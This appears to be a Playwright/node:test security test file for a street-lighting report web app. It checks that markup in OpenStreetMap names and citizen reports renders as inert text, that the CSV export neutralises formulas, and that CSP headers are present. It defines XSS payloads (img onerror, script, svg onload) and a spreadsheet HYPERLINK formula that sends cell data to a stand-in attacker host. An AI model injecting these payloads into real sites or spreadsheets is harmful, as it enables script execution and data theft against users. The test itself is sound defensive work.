// Markup in data must stay text: an OSM walkway named like an <img onerror> tag (a dark stretch,
// lit=no and no lamps), and a citizen report whose description, first name and status notes are
// markup and a spreadsheet formula. The public view and the coordinator's view draw them in
// tooltips, popups, the inbox, the ranked list and the print view; nothing may run, no element
// may be created from them, the text must show as written, the CSV export must not carry a live
// formula, and the pages must come with the Content-Security-Policy (and break none of it).

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { startServer, launchBrowser, openContext, layerReady, screenshot, watchPage } from './harness.mjs';

const NAME = '<img src=x onerror="window.__xss=1;alert(1)">';
const DESCRIPTION = '=HYPERLINK("https://evil.invalid/?q="&A1;"Klicka") <img src=x onerror="window.__xss=2;alert(2)"><script>window.__xss=3</script>';
const FIRST_NAME = '<b onmouseover="window.__xss=4">Eve</b><img src=x onerror=alert(4)>';
const NOTES = '<svg onload="window.__xss=5;alert(5)"></svg>Lagas snart';
// The walkway runs east–west through Täby centrum (inside the demo's service area); the report
// lies 22 m north of its middle, clear of the line on the map at zoom 17.
const WALKWAY = [
  [59.4439, 18.067],
  [59.4439, 18.0688],
  [59.4439, 18.0706],
];
const REPORT = [59.4441, 18.0688];

let server;
let browser;
let dir;
let reportId;

const xml = (s) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

before(async () => {
  dir = mkdtempSync(path.join(tmpdir(), 'lagesbild-xss-'));
  const osm = path.join(dir, 'evil.osm');
  writeFileSync(
    osm,
    [
      `<?xml version="1.0" encoding="UTF-8"?>`,
      `<osm version="0.6" generator="lagesbild xss test">`,
      ...WALKWAY.map(([lat, lon], i) => `  <node id="${9000001 + i}" lat="${lat}" lon="${lon}"/>`),
      `  <way id="9000100">`,
      ...WALKWAY.map((_, i) => `    <nd ref="${9000001 + i}"/>`),
      `    <tag k="highway" v="footway"/>`,
      `    <tag k="lit" v="no"/>`,
      `    <tag k="name" v="${xml(NAME)}"/>`,
      `  </way>`,
      `</osm>`,
      '',
    ].join('\n'),
  );
  server = await startServer({ roles: ['coordinator'], imports: [['osm', osm, '--anywhere']] });
  browser = await launchBrowser();

  // The citizen's report, over Open311 as any client would send it.
  const res = await fetch(`${server.url}/open311/v2/requests.json`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded', Accept: 'application/json' },
    body: new URLSearchParams({
      service_code: 'dark_path',
      lat: String(REPORT[0]),
      long: String(REPORT[1]),
      description: DESCRIPTION,
      first_name: FIRST_NAME,
      email: 'eve@example.invalid',
    }),
  });
  assert.ok(res.ok, `POST: ${res.status} ${await res.clone().text()}`);
  const answer = await res.json();
  reportId = String((Array.isArray(answer) ? answer[0] : answer).service_request_id);
  // A coordinator's status note, shown to everyone.
  const patch = await fetch(`${server.url}/api/v1/reports/${encodeURIComponent(reportId)}`, {
    method: 'PATCH',
    headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${server.tokens.coordinator}` },
    body: JSON.stringify({ status: 'acknowledged', status_notes: NOTES }),
  });
  assert.ok(patch.ok, `PATCH: ${patch.status} ${await patch.text()}`);
});

after(async () => {
  await browser?.close();
  await server?.stop();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

/** A page that records dialogs, console errors and CSP violations. */
async function watchedPage(context) {
  await context.addInitScript(() => {
    window.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      window.__cspViolations.push(`${e.violatedDirective}: ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`),
    );
  });
  const page = await context.newPage();
  const errors = watchPage(page);
  const dialogs = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    d.dismiss().catch(() => {});
  });
  return { page, errors, dialogs };
}

async function goto(page, url) {
  const res = await page.goto(url);
  const csp = res.headers()['content-security-policy'] || '';
  assert.match(csp, /(^|;)\s*script-src 'self'\s*(;|$)/, `CSP on ${url}: ${csp}`);
  assert.match(csp, /frame-ancestors 'none'/);
  assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval/);
  assert.equal(res.headers()['x-content-type-options'], 'nosniff');
  return res;
}

async function assertNothingRan({ page, errors, dialogs }, where) {
  assert.deepEqual(dialogs, [], `${where}: dialogs`);
  assert.equal(await page.evaluate(() => typeof window.__xss), 'undefined', `${where}: window.__xss`);
  assert.equal(await page.locator('img[src="x"]').count(), 0, `${where}: img[src=x] in the DOM`);
  const handlers = await page.evaluate(
    () => document.querySelectorAll('[onerror], [onload], [onmouseover], script:not([src])').length,
  );
  assert.equal(handlers, 0, `${where}: event-handler attributes or inline scripts in the DOM`);
  assert.deepEqual(await page.evaluate(() => window.__cspViolations), [], `${where}: CSP violations`);
  assert.deepEqual(errors, [], `${where}: console errors`);
}

/** Where a point of the map is on the page. */
function pagePoint(page, [lat, lon]) {
  return page.evaluate(
    ([lat, lon]) => {
      const map = window.__lagesbildMap;
      const p = map.latLngToContainerPoint([lat, lon]);
      const r = map.getContainer().getBoundingClientRect();
      return { x: r.left + p.x, y: r.top + p.y };
    },
    [lat, lon],
  );
}

/** Moves the mouse onto the dark stretch, east of the report (the line's box has no height,
 * so Playwright would not call the path visible). */
async function hoverStretch(page) {
  const { x, y } = await pagePoint(page, [WALKWAY[1][0], (WALKWAY[1][1] + WALKWAY[2][1]) / 2]);
  await page.mouse.move(x - 8, y);
  await page.mouse.move(x, y);
  return { x, y };
}

/** Closes the open popup and waits until Leaflet's fade-out has removed it. */
async function closePopup(page) {
  await page.evaluate(() => void window.__lagesbildMap.closePopup());
  await page.waitForFunction(() => !document.querySelector('.leaflet-popup'));
}

/** Zooms to the walkway, hovers and clicks the dark stretch, then opens the report's popup. */
async function stretchAndReport(page) {
  // The walkway in the map's lower half, so that no popup needs to pan the map (a pan reloads
  // the stretches, which closes their popup).
  await page.evaluate(
    ([lat, lon]) => void window.__lagesbildMap.setView([lat + 0.0012, lon], 17, { animate: false }),
    WALKWAY[1],
  );
  // The view's layers reload after a pause (debounced moveend): let that happen first.
  await page.waitForTimeout(500);
  assert.ok((await layerReady(page, 'stretches')) >= 1, 'the dark stretch is drawn');
  await layerReady(page, 'reports');
  await page.locator('.leaflet-stretch-pane path.leaflet-interactive').first().waitFor({ state: 'attached' });
  const at = await hoverStretch(page);
  const tooltip = page.locator('.leaflet-tooltip').last();
  await tooltip.waitFor();
  assert.ok((await tooltip.textContent()).includes(NAME), `tooltip: ${await tooltip.textContent()}`);
  assert.ok(await page.getByText(NAME, { exact: false }).first().isVisible());
  await page.mouse.click(at.x, at.y);
  const popup = page.locator('.leaflet-popup-content');
  await popup.waitFor();
  assert.ok((await popup.textContent()).includes(NAME), `stretch popup: ${await popup.textContent()}`);
  await closePopup(page);
  await page.locator('.report-icon').first().click();
  await page.locator('.leaflet-popup-content .report-text').waitFor();
  const text = await page.textContent('.leaflet-popup-content');
  assert.ok(text.includes(DESCRIPTION), `report popup: ${text}`);
  assert.ok(text.includes(NOTES), `report popup notes: ${text}`);
}

test('the public view shows an OSM name and a report full of markup as text, and runs none of it', async () => {
  const context = await openContext(browser);
  const w = await watchedPage(context);
  const { page } = w;
  await goto(page, `${server.url}/`);
  await page.waitForSelector('body[data-ready="true"]');
  await stretchAndReport(page);
  await screenshot(page, 'xss-public-report-popup');
  await closePopup(page);
  await hoverStretch(page);
  await page.locator('.leaflet-tooltip').last().waitFor();
  await screenshot(page, 'xss-public-stretch-tooltip');
  await assertNothingRan(w, 'public map');

  // The citizen's follow-up page shows the description and the notes.
  await page.goto(`${server.url}/#/arende/${encodeURIComponent(reportId)}`);
  await page.waitForSelector('#follow .report-text');
  const follow = await page.textContent('#follow');
  assert.ok(follow.includes(DESCRIPTION) && follow.includes(NOTES), follow);
  await assertNothingRan(w, 'follow-up');
  await context.close();
});

test('the coordinator view: popups, inbox, ranked list, CSV export and print view stay inert', async () => {
  const context = await openContext(browser, { token: server.tokens.coordinator });
  const w = await watchedPage(context);
  const { page } = w;
  await goto(page, `${server.url}/`);
  await page.waitForSelector('body[data-role="coordinator"]');
  await stretchAndReport(page);
  await closePopup(page);
  await assertNothingRan(w, 'coordinator map');

  // The inbox: description, contact (the first name) and notes.
  await page.getByRole('tab', { name: 'Inkorg' }).click();
  await page.selectOption('#inbox-status', '');
  const item = page.locator(`.inbox-list li[data-report-id="${reportId}"]`);
  await item.waitFor();
  await item.locator('button').click();
  await page.waitForSelector('.inbox-detail form.moderate');
  const detail = await page.textContent('.inbox-detail');
  assert.ok(detail.includes(DESCRIPTION), `inbox: ${detail}`);
  assert.ok(detail.includes(FIRST_NAME), `inbox contact: ${detail}`);
  assert.equal(await page.inputValue('.moderate textarea[name=status_notes]'), NOTES);
  await screenshot(page, 'xss-coordinator-inbox');
  await assertNothingRan(w, 'inbox');

  // The ranked dark stretches name the walkway.
  await page.getByRole('tab', { name: 'Belysning' }).click();
  await page.waitForSelector('.stretch-list .stretch-item');
  assert.ok((await page.textContent('.stretch-list')).includes(NAME));
  await assertNothingRan(w, 'lighting list');

  // The CSV export carries the description as text, not as a formula.
  await page.getByRole('tab', { name: 'Export' }).click();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Ladda ned CSV' }).click(),
  ]);
  const csv = readFileSync(await download.path(), 'utf8');
  const quoted = `"'${DESCRIPTION.replace(/"/g, '""')}"`;
  assert.ok(csv.includes(quoted), `CSV holds the neutralised description ${quoted}:\n${csv}`);
  assert.ok(!/(^|,)"?=HYPERLINK/m.test(csv), 'no cell starts with =HYPERLINK');

  // The print view lists the stretch.
  const print = await context.newPage();
  const pw = { page: print, errors: watchPage(print), dialogs: [] };
  print.on('dialog', (d) => {
    pw.dialogs.push(d.message());
    d.dismiss().catch(() => {});
  });
  await goto(print, `${server.url}/print.html`);
  await print.waitForSelector('body[data-ready]');
  assert.equal(await print.getAttribute('body', 'data-ready'), 'true');
  assert.ok((await print.textContent('#stretches')).includes(NAME), await print.textContent('#stretches'));
  await screenshot(print, 'xss-print');
  await assertNothingRan(pw, 'print view');
  await assertNothingRan(w, 'coordinator');
  await context.close();
});

test('the trends legend and tooltip draw whatever the answer holds as text', async () => {
  // The labels and step names are fixed server strings, but they are data: an answer with markup
  // in them (and a category the page does not know) must show it as written and run nothing.
  const context = await openContext(browser);
  const w = await watchedPage(context);
  const { page } = w;
  await goto(page, `${server.url}/`);
  await page.waitForSelector('body[data-ready="true"]');
  const shown = await page.evaluate(
    async ([name]) => {
      const { ehsaLegend, ehsaTooltip } = await import('/js/layers.js');
      const meta = {
        method: 'ehsa',
        k: 3,
        categories: { persistent_hot_spot: 2, [name]: 1, no_pattern: 5 },
        parameters: { step: 'month', steps: 12, first_step: name, last_step: '2026-11', bin_alpha: 0.05 },
        left_out: { outside_steps: 1, across_steps: 0 },
      };
      const legend = ehsaLegend(meta);
      const tip = ehsaTooltip(
        { category: name, label: name, count: 4, history: `H.C${name}`, hot_steps: 1, cold_steps: 1, mk_tau: 0.1, mk_p: 0.5 },
        meta,
      );
      const box = document.createElement('div');
      box.append(legend, tip);
      document.body.append(box);
      return { legend: legend.textContent, tip: tip.textContent, rows: legend.querySelectorAll('.ehsa-row').length };
    },
    [NAME],
  );
  assert.ok(shown.legend.includes(`12 månader, ${NAME} – 2026-11.`), shown.legend);
  assert.equal(shown.rows, 1, 'only the known categories get a row');
  assert.ok(shown.tip.startsWith(NAME), shown.tip);
  await assertNothingRan(w, 'trends legend and tooltip');
  await context.close();
});
